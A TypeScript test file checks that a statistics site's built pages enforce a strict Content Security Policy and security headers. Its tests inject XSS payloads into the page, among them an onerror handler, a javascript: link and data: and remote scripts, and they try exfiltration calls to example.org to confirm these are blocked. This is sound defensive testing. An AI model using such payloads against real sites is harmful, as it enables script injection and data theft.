/** The content security policy of the built documents, and the headers that a host should send with them. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { contentSecurityPolicy } from '../../src/build/headers.ts';
import { openPage } from './page.ts';
import { whole } from './steps.ts';

/** What Chromium says of it; Playwright tells of a request before the policy stops it. */
const REFUSED = /Content Security Policy|request to another host: https:\/\/example\.org/i;

/** What the page's policy refuses from now on: `directive what`. */
async function refusals(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const list: string[] = [];
    Object.assign(window, { refusedByPolicy: list });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      list.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy);
}

const DOCUMENTS = [
  'index.html',
  'en/index.html',
  'kommune/index.html',
  'kommune/851-aalborg/index.html',
  'en/kommune/851-aalborg/index.html',
];

test.each(DOCUMENTS)('%s: the policy before everything it is about, no inline script or style', (file) => {
  const html = readFileSync(join('dist', file), 'utf8');
  expect(html).toMatch(/<meta charset="utf-8"( \/)?>\s*<meta http-equiv="Content-Security-Policy"/);
  expect(html).toContain(`content="${contentSecurityPolicy}"`);
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\son\w+=|\sstyle=|javascript:/i);
});

test('the policy names no host but the publisher that a reader can ask', () => {
  expect(contentSecurityPolicy.match(/https?:[^ ;]+/g)).toEqual(['https://api.statbank.dk']);
  expect(contentSecurityPolicy).not.toMatch(/unsafe|\*/);
});

test('an injected script does not run: inline, as an attribute, as an address, from text, from elsewhere', async () => {
  const page = await openPage({ at: '#/', expectedComplaints: [REFUSED] });
  await whole(page);
  const refused = await refusals(page);
  await page.evaluate(() => {
    const script = (set: (element: HTMLScriptElement) => void): void => {
      const element = document.createElement('script');
      set(element);
      document.body.append(element);
    };
    script((element) => {
      element.textContent = 'window.injected = "inline"';
    });
    script((element) => {
      element.src = 'data:text/javascript,window.injected="data"';
    });
    script((element) => {
      element.src = 'https://example.org/x.js';
    });
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = 1">');
    document.body.insertAdjacentHTML('beforeend', '<a id="evil" href="javascript:window.injected=2">x</a>');
    document.getElementById('evil')?.click();
    setTimeout('window.injected = 3');
  });
  await expect.poll(async () => (await refused()).length).toBeGreaterThanOrEqual(6);
  expect([...new Set(await refused())].sort()).toEqual([
    'script-src eval',
    'script-src-attr inline',
    'script-src-elem data',
    'script-src-elem https://example.org/x.js',
    'script-src-elem inline',
  ]);
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
});

test('nothing is sent elsewhere: no request, form, frame or picture, and no other base', async () => {
  const page = await openPage({ at: '#/', expectedComplaints: [REFUSED] });
  await whole(page);
  const refused = await refusals(page);
  await page.evaluate(async () => {
    await fetch('https://example.org/collect?x=1').catch(() => undefined);
    navigator.sendBeacon('https://example.org/beacon');
    const html = (text: string): void => document.body.insertAdjacentHTML('beforeend', text);
    html('<img src="https://example.org/pixel.png">');
    html('<iframe src="https://example.org/frame"></iframe>');
    html('<form id="f" action="https://example.org/form"></form>');
    (document.getElementById('f') as HTMLFormElement).submit();
    document.head.insertAdjacentHTML('beforeend', '<base href="https://example.org/">');
  });
  await expect
    .poll(async () => [...new Set((await refused()).map((text) => text.split(' ')[0]))].sort())
    .toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src']);
  expect(await page.evaluate(() => document.baseURI)).not.toContain('example.org');
});

test('the headers of a document, of a file that never changes, and of a plain page', async () => {
  const page = await openPage({ at: '#/' });
  const headers = async (path: string) => (await page.request.get(new URL(path, page.url()).href)).headers();
  const everywhere = {
    'content-security-policy': contentSecurityPolicy,
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
  };
  for (const path of ['./', 'en/', 'kommune/851-aalborg/'])
    expect(await headers(path), path).toMatchObject({ ...everywhere, 'cache-control': 'no-cache' });
  const script = await page.locator('script[src]').first().getAttribute('src');
  expect(await headers(script!)).toMatchObject({
    ...everywhere,
    'cache-control': 'public,max-age=31536000,immutable',
  });
});

test('hosts that read _headers get the same', () => {
  const file = readFileSync(join('dist', '_headers'), 'utf8');
  expect(file).toMatch(/^\/\*\n {2}Content-Security-Policy: default-src 'none';/);
  expect(file).toMatch(/\n\/en\/assets\/\*\n {2}Cache-Control: public,max-age=31536000,immutable\n$/);
  // Figures are meant to stand in other pages.
  expect(file).not.toMatch(/frame-ancestors|X-Frame-Options/i);
});

test('a page in a frame of another page opens', async () => {
  const page = await openPage({ at: 'kommune/', bypassCSP: true });
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = new URL('../#/indlejr', location.href).href;
    document.body.append(frame);
  });
  await page.frameLocator('iframe').getByRole('heading', { level: 1 }).waitFor();
});
